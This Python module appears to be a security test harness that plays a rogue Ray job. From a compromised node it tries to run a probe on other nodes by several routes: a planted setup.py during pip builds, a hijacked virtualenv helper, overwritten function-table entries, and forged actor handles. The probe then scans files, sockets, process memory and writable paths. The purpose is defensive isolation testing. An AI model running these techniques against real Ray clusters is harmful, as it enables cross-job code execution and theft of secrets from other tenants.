"""A rogue Ray job: a driver that gets its code run on a node of its choice in every way that Ray offers.

Runs as ``python -c`` in the cage of a node that counts as compromised, with that node's token and certificate; of this
project it uses what lies in every cage. Each line of standard input is a command in JSON, and is answered by one line
``answer: JSON``. Commands: ``vehicle`` (name, node, what to try there) and ``ask`` (node, connection, request), which
speaks to the node's custodian as an actor does.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import subprocess
import sys
import time
import traceback
from collections.abc import Callable
from typing import Any

import cloudpickle
import ray
from ray._private import state as ray_state
from ray._private.worker import global_worker
from ray.core.generated import core_worker_pb2

from ray_gpu.actor import GpuActor

#: What Ray does not declare, and does not mean anybody to use.
_ray: Any = ray
_worker: Any = global_worker
_messages: Any = core_worker_pb2
LABEL = "ray-gpu-node"
TIMEOUT_S = 90
#: What runs on the node, whatever brought it there: says where it is, and tries everything. Text, since one vehicle
#: is a file. ``targets`` hold ``files``, ``needles`` (masked, so that no process has them from here), ``tcp``, ``unix``
#: and ``programs``, each by name, and ``writable``, directories in which it tries to write.
PROBE = """
import glob, hashlib, os, socket
def probe(targets):
    got, refused = [], {}
    def attempt(kind, name, act):
        try:
            act()
            got.append(kind + " " + name)
        except Exception as error:
            refused[kind + " " + name] = repr(error)[:100]
    def read(pattern):
        found = glob.glob(pattern) or [pattern]
        for path in found:
            os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(64)
    def connect(family, address):
        with socket.socket(family) as sock:
            sock.settimeout(2)
            sock.connect(address)
    for name, path in targets.get("files", {}).items():
        attempt("file", name, lambda: read(path))
    for name, path in targets.get("unix", {}).items():
        attempt("unix", name, lambda: connect(socket.AF_UNIX, path))
    for name, (host, port) in targets.get("tcp", {}).items():
        attempt("tcp", name, lambda: connect(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, port)))
    others = [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
    commands = {}
    for pid in others:
        try:
            words = open("/proc/%d/cmdline" % pid, "rb").read().split(b"\\0")
            commands[pid] = b" ".join(words).decode("utf-8", "replace")
        except OSError:
            pass
    for name, word in targets.get("programs", {}).items():
        if any(word in command for command in commands.values()):
            got.append("program " + name)
    for name in found_in_memory(others, targets.get("needles", {})):
        got.append("memory " + name)
    if "writable" in targets:
        got += ["write " + path for path in writable(targets["writable"])]
    return {
        "node": os.environ.get("RAY_GPU_NODE"), "uid": os.getuid(), "pid_namespace": os.readlink("/proc/self/ns/pid"),
        "net_namespace": os.readlink("/proc/self/ns/net"),
        "got": sorted(got), "refused": refused, "commands": sorted(commands.values()),
    }
def writable(tops):
    # Where a file can be made, without what lies below; and what of the kernel's can be opened for writing.
    name, found = ".rogue-%d" % os.getpid(), []
    def made(place):
        try:
            open(place + "/" + name, "xb").close()
            os.unlink(place + "/" + name)
        except OSError:
            return False
        found.append(place)
        return True
    for top in tops:
        # What cannot be listed can perhaps be written.
        if made(top):
            continue
        for place, below, files in os.walk(top):
            below[:] = [one for one in below if (place, one) not in (("/", "proc"), ("/", "sys"))]
            if place != top and made(place) or place.count("/") > 4:
                below.clear()
                continue
            for path in (place + "/" + one for one in files[:100]):
                try:
                    if os.path.isfile(path):  # no device, such as /dev/null
                        os.close(os.open(path, os.O_WRONLY | os.O_NOFOLLOW))
                        found.append(path)
                except OSError:
                    pass
    for path in ("core_pattern", "randomize_va_space", "hostname"):
        try:
            os.close(os.open("/proc/sys/kernel/" + path, os.O_WRONLY))
            found.append("/proc/sys/kernel/" + path)
        except OSError:
            pass
    return found
def holds(data, masked):
    head, length, digest = masked
    head, at = head[::-1].encode(), -1
    while (at := data.find(head, at + 1)) >= 0:
        if hashlib.sha256(data[at:at + length]).hexdigest() == digest:
            return True
    return False
def found_in_memory(pids, needles):
    found = set()
    for pid in pids:
        try:
            maps, memory = open("/proc/%d/maps" % pid).read(), open("/proc/%d/mem" % pid, "rb", 0)
        except OSError:
            continue
        for line in maps.splitlines():
            span, access, _, _, inode, *_ = line.split(None, 5)
            start, end = (int(part, 16) for part in span.split("-"))
            # A secret that a process made, or was given, is in memory that it writes; shared memory may be sparse.
            if not access.startswith("rw") or end - start > 1 << 28:
                continue
            try:
                memory.seek(start)
                data = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found.update(name for name, masked in needles.items() if holds(data, masked))
        memory.close()
    return found
"""
#: Another job, honest: its function and its actor are what the rogue takes over.
HONEST = """
import json, sys, ray
address, own, node, here = sys.argv[1:]
ray.init(address=address, _node_ip_address=own, log_to_driver=False)
@ray.remote(num_cpus=0, max_retries=0)
def honest():
    return "honest"
@ray.remote(num_cpus=0)
class Honest:
    def answer(self):
        return "honest"
# In a worker of its own, which no later call gets: a worker that knows the function does not look for it again.
first = honest.options(label_selector={"ray-gpu-node": here}, runtime_env={"env_vars": {"FIRST": "1"}})
assert ray.get(first.remote(), timeout=90) == "honest"
actor = Honest.options(label_selector={"ray-gpu-node": node}).remote()
assert ray.get(actor.answer.remote(), timeout=90) == "honest"
print("ready", ray.get_runtime_context().get_job_id(), actor._actor_id.hex(), flush=True)
for line in sys.stdin:
    said = ray.get(honest.options(label_selector={"ray-gpu-node": node}).remote(), timeout=90)
    print(json.dumps(said), flush=True)
"""
#: Ray's agent asks for virtualenv before it has pip build anything, and copies the whole environment. Whoever can write
#: where Python looks gives it one that does with links; it then runs in the agent itself.
VIRTUALENV = """
import os, shutil, sys, sysconfig
from ray._private.runtime_env import virtualenv_utils
async def create(path, cwd, logger):
    root = virtualenv_utils.get_virtualenv_path(path)
    packages = sysconfig.get_path("purelib")
    os.makedirs(root + "/bin")
    os.symlink(os.path.realpath(sys.executable), root + "/bin/python")
    shutil.copy(sys.prefix + "/pyvenv.cfg", root)
    os.makedirs(os.path.dirname(root + packages.removeprefix(sys.prefix)))
    os.symlink(packages, root + packages.removeprefix(sys.prefix))
virtualenv_utils.create_or_get_virtualenv = create
"""
SETUP = """
import json
exec(open({code!r}).read())
with open({report!r} + ".new", "w") as file:
    json.dump(probe(json.load(open({targets!r}))), file)
os.rename({report!r} + ".new", {report!r})
# The build has served its purpose; an environment that works would have Ray start workers in it.
raise SystemExit(1)
"""
PIP = ["--no-index", "--no-build-isolation", "--no-deps", "--disable-pip-version-check", "--target=/tmp/rogue/target"]


class Driver:
    """The rogue job."""

    def __init__(self, address: str, own: str) -> None:
        self._address, self._own = address, own
        ray.init(address=address, _node_ip_address=own, log_to_driver=False)
        self._asking: dict[str, Any] = {}
        self._honest: dict[str, tuple[Any, str, str]] = {}

    def vehicle(self, name: str, node: str, targets: dict[str, Any]) -> Any:
        """Have the probe run on a node, brought there by one of the ways."""
        drive: Callable[[str, dict[str, Any]], Any] = getattr(self, f"_{name}")
        return drive(node, targets)

    def ask(self, node: str, connection: int, request: dict[str, Any]) -> Any:
        """Send a request to the custodian of a node, on a connection that stays open; return its answer."""
        if node not in self._asking:
            self._asking[node] = ray.remote(num_cpus=0, label_selector={LABEL: node})(Asking).remote()
        return ray.get(self._asking[node].ask.remote(connection, request), timeout=TIMEOUT_S)

    def _task(self, node: str, targets: dict[str, Any]) -> Any:
        return ray.get(_pinned(_probe, node).remote(PROBE, targets), timeout=TIMEOUT_S)

    def _pip(self, node: str, targets: dict[str, Any]) -> Any:
        # An environment is built once for each list of packages.
        place = f"/tmp/rogue/package-{os.urandom(4).hex()}"
        ray.get(_pinned(_plant, node).remote(_package(targets, place)), timeout=TIMEOUT_S)
        build = {"pip": {"packages": [place], "pip_check": False, "pip_install_options": PIP}}
        # Whatever Ray makes of the environment afterwards, setup.py runs while it is built.
        waiting = _pinned(_read, node, runtime_env=build).remote("/dev/null")
        report = _pinned(_await, node).remote("/tmp/rogue/report", TIMEOUT_S)
        if ray.wait([report, waiting], timeout=2 * TIMEOUT_S)[0] == [waiting] and not ray.wait([report], timeout=5)[0]:
            ray.get(waiting)
        ray.cancel(waiting, force=True)
        return json.loads(ray.get(report, timeout=1))

    def _function_table(self, node: str, targets: dict[str, Any]) -> Any:
        honest, job, _ = self._honest_job(node)
        found = _worker.gcs_client.internal_kv_keys(f"RemoteFunction:{job}:".encode(), b"fun")
        assert found
        for key in found:
            entry = pickle.loads(_worker.gcs_client.internal_kv_get(key, b"fun"))
            entry["function"] = cloudpickle.dumps(_taken_over(PROBE, targets))
            _worker.gcs_client.internal_kv_put(key, pickle.dumps(entry), True, b"fun")
        honest.stdin.write("go\n")
        honest.stdin.flush()
        said = json.loads(next(line for line in honest.stdout if line.startswith(("{", '"'))))
        if said == "honest":
            raise RuntimeError("the worker ran the honest function")
        return said

    def _ray_call(self, node: str, targets: dict[str, Any]) -> Any:
        wanted = _actors(node, "GpuActor")
        if not wanted:
            identifier = self._honest_job(node)[2]
            wanted = [actor for actor in _actors(node, "Honest") if actor["ActorID"] == identifier]
        handle = self._stolen(wanted[0])
        return ray.get(handle.__ray_call__.remote(_in_actor, PROBE, targets), timeout=TIMEOUT_S)

    def _stolen(self, actor: dict[str, Any]) -> Any:
        """Return a handle of an actor that is not ours: one of our own, of its class, with its ids in it."""
        cls = {"GpuActor": GpuActor, "Honest": Honest}[actor["ActorClassName"]]
        mine = _ray.remote(num_cpus=0, label_selector={LABEL: os.environ["RAY_GPU_NODE"]})(cls).remote()
        # A handle's class is looked up in the other job's part of the function table: ours goes there as well.
        table, own = _worker.gcs_client, ray.get_runtime_context().get_job_id()
        for key in table.internal_kv_keys(f"ActorClass:{own}:".encode(), b"fun"):
            copied = key.replace(own.encode(), actor["JobID"].encode(), 1)
            table.internal_kv_put(copied, table.internal_kv_get(key, b"fun"), True, b"fun")
        worker = _worker.core_worker
        forged = _messages.ActorHandle()
        forged.ParseFromString(worker.serialize_actor_handle(mine._actor_id)[0])
        forged.actor_id = bytes.fromhex(actor["ActorID"])
        forged.creation_job_id = bytes.fromhex(actor["JobID"])
        return worker.deserialize_and_register_actor_handle(forged.SerializeToString(), ray.ObjectRef.nil(), False)

    def _honest_job(self, node: str) -> tuple[Any, str, str]:
        """Start another job on a node; return its process, its id, and its actor's."""
        if node not in self._honest:
            command = [sys.executable, "-c", HONEST, self._address, self._own, node, os.environ["RAY_GPU_NODE"]]
            process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
            assert process.stdout is not None
            said = next(line for line in process.stdout if line.startswith("ready")).split()
            self._honest[node] = process, said[1], said[2]
        return self._honest[node]


class Honest:
    """As the other job's: handles name a class."""

    def answer(self) -> str:
        """Return what the other's does."""
        return "honest"


class Asking:
    """An actor that speaks to its node's custodian, as ours does."""

    def __init__(self) -> None:
        self._connections: dict[int, Any] = {}

    def ask(self, connection: int, request: dict[str, Any]) -> dict[str, Any]:
        """Send one request and return the answer."""
        from ray_gpu.wire import recv_message, send_message, unix_connect

        if connection not in self._connections:
            self._connections[connection] = unix_connect(os.environ["RAY_GPU_CUSTODIAN"])
        send_message(self._connections[connection], request)
        return recv_message(self._connections[connection])[0]


def _actors(node: str, cls: str) -> list[dict[str, Any]]:
    here = {info["NodeID"] for info in _ray.nodes() if info["Labels"].get(LABEL) == node}
    actors = ray_state.actors(actor_state_name="ALIVE").values()
    return [actor for actor in actors if actor["Address"]["NodeID"] in here and actor["ActorClassName"] == cls]


def _pinned(function: Any, node: str, **options: Any) -> Any:
    return ray.remote(num_cpus=0, max_retries=0, label_selector={LABEL: node}, **options)(function)


def _probe(code: str, targets: dict[str, Any]) -> Any:
    space: dict[str, Any] = {}
    exec(code, space)
    return space["probe"](targets)


def _in_actor(actor: Any, code: str, targets: dict[str, Any]) -> Any:
    space: dict[str, Any] = {}
    exec(code, space)
    return {**space["probe"](targets), "actor": type(actor).__name__, "holds": sorted(vars(actor))}


def _taken_over(code: str, targets: dict[str, Any]) -> Callable[[], Any]:
    def honest() -> Any:
        space: dict[str, Any] = {}
        exec(code, space)
        return space["probe"](targets)

    return honest


def _plant(files: dict[str, str]) -> None:
    # Where Python looks, if anything of that can be written.
    first = next(
        (path for path in [*os.environ["PYTHONPATH"].split(":"), *sys.path] if os.access(path, os.W_OK)), "/tmp"
    )
    if os.path.exists("/tmp/rogue"):
        shutil.rmtree("/tmp/rogue")
    for name, text in files.items():
        path = os.path.join(first, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as file:
            file.write(text)


def _read(path: str) -> str:
    with open(path, encoding="utf-8") as file:
        return file.read()


def _await(path: str, timeout_s: float) -> str:
    deadline = time.monotonic() + timeout_s
    while not os.path.exists(path):
        if time.monotonic() > deadline:
            raise TimeoutError(path)
        time.sleep(0.05)
    return _read(path)


def _package(targets: dict[str, Any], place: str) -> dict[str, str]:
    paths = {name: f"/tmp/rogue/{name}" for name in ("code", "targets", "report")}
    files = {paths["code"]: PROBE, paths["targets"]: json.dumps(targets), "virtualenv.py": VIRTUALENV}
    return {**files, f"{place}/setup.py": SETUP.format(**paths)}


def main() -> None:
    """Answer commands until standard input ends."""
    os.chdir("/")  # the one that this was started in belongs to another mount namespace
    driver = Driver(*sys.argv[1:])
    for line in sys.stdin:
        command = json.loads(line)
        try:
            answer = {"ok": getattr(driver, command.pop("op"))(**command)}
        except Exception as error:  # noqa: BLE001 - the test says what was to succeed
            answer = {"error": "".join(traceback.format_exception(error))[-3000:]}
        sys.stdout.write(f"answer: {json.dumps(answer)}\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
